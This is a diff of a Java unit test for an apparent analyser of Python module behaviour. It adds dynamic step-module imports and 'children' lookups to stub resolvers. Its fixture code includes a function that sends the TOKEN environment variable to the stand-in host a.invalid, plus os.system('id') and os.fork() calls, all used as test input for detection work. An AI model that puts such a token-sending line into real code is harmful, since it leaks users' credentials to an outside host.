@@ -60,8 +60,10 @@ class AnalysisWorkerTest {
         text(
             "/opt/env/lib/acme/cli.py",
             """
-            import os, subprocess, sys
+            import importlib, os, subprocess, sys
             from . import größe
+            for step in os.listdir(os.path.dirname(__file__)):
+                importlib.import_module('acme.steps.' + step)
             from tool.cli import main as tool
             def main():
                 größe.send('\\x00 \\N{SNOWMAN} 名前')
@@ -79,6 +81,8 @@ class AnalysisWorkerTest {
             def send(x):
              urllib.request.urlopen('https://a.invalid/' + os.environ['TOKEN'])
             """));
+    files.put("acme.steps", new ModuleSource.Namespace());
+    files.put("acme.steps.größe", text("/opt/env/lib/acme/steps/a.py", "import os\nos.fork()\n"));
     Modules modules = modules(files);
     Subject subject = new Subject(List.of("kubectl"), "acme");
     Program entry = new Program.Entry(new EntryPoint("acme.cli", "main"), FILE);
@@ -214,6 +218,11 @@ class AnalysisWorkerTest {
           public Map<String, Set<String>> commands(String module) {
             return Map.of();
           }
+
+          @Override
+          public List<String> children(String parent) {
+            return List.of();
+          }
         };
     Program script = new Program.Script(FILE, "import acme\nimport os\nos.system('id')\n");
     Subject subject = subject("kubectl");
@@ -240,6 +249,11 @@ class AnalysisWorkerTest {
 
           @Override
           public Map<String, Set<String>> commands(String module) {
+            throw new IllegalStateException("broken");
+          }
+
+          @Override
+          public List<String> children(String parent) {
             throw new IllegalStateException("broken");
           }
         };
@@ -353,6 +367,11 @@ class AnalysisWorkerTest {
       @Override
       public Map<String, Set<String>> commands(String module) {
         return module.startsWith("tool") ? Map.of("tool.cli", Set.of("kubectl", "k")) : Map.of();
+      }
+
+      @Override
+      public List<String> children(String parent) {
+        return parent.equals("acme.steps") ? List.of("größe", "one") : List.of();
       }
     };
   }
